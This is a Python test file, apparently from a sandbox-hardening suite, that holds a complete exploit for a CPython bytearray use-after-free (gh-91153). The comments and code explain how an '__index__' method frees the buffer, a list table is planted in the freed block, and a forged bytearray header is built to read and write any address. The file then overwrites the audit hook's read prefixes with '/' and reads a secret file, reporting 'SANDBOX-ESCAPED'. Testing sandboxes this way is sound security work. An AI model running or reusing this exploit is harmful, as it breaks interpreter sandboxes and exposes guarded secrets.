# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `bytearray` stores an item (`b[i] = v`) by taking its data pointer first, then asking the value for its number
# (`__index__`: Python code of the code's own), then checking the index against the size the bytearray has by then and
# writing at the pointer it took (gh-91153, still open in 3.12 and 3.13 when reported, never fixed in 3.11). A value
# whose `__index__` empties the bytearray (its 56-byte buffer goes back to the allocator), makes a list whose 7-item
# table takes that block, and fills the bytearray again (a new buffer, so the size check passes) has the byte written
# over the low byte of the table's first item: it then names a forged bytearray header (size 2**62, data at address 0)
# inside a bytes object of the code's own, so any address is read and written, with no audit event. From there the
# hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out) gain "/", and the secret file
# is read where the hook is what guards it. The forty-fourth and fifty-second rounds sealed this write in `array` and
# `mmap`; the fifty-second's fuzz of `bytearray` saw no crash (a freed block written is no crash). With the hook the
# value is converted before the data pointer is taken, so the byte lands in the bytearray (1); without it native code
# is assumed anyway.
import os
import struct

HELD = []  # every object the forged pointer or the table touches, kept for good
FAKE = struct.pack("<7q", 1 << 40, id(bytearray), 2**62, 2**62, 0, 0, 0)  # refcount, type, size, alloc, bytes, start


def window():
    """A bytearray header of the code's own making, over all memory, reached through a list item it rewrote."""
    bodies = [b"\0" * 8 + FAKE + b"\0" * 240 for _ in range(64)]
    HELD.append(bodies)
    body = next((b for b in bodies if id(b) % 256 + 32 + 8 + len(FAKE) <= 256), None)
    if body is None:
        return None
    fake_at = id(body) + 32 + 8  # past the bytes header and 8 bytes of the body: one byte away from `body` itself

    class Freer:
        def __init__(self, victim, table):
            self.victim, self.table = victim, table

        def __index__(self):
            self.victim.clear()  # the buffer goes back to the allocator
            self.table.append([body] * 7)  # a 7-item table takes that block
            self.victim.extend(bytes(55))  # a new buffer: the size check passes again
            return fake_at % 256

    for _ in range(8):
        victim = bytearray(55)  # 56 bytes of buffer: the size of a 7-item table
        table = []
        try:
            victim[0] = Freer(victim, table)  # the low byte of the table's first item
        except Exception:
            return None
        HELD.append(table)
        item = table[0][0]
        if item is not body:
            return item if type(item) is bytearray else None
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # sealed, or no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    at = id(prefixes) + 24  # the tuple's first item
    memory[at:at + 8] = id(root).to_bytes(8, "little")
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a bytearray emptied under its own item store: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a bytearray emptied under its own item store"
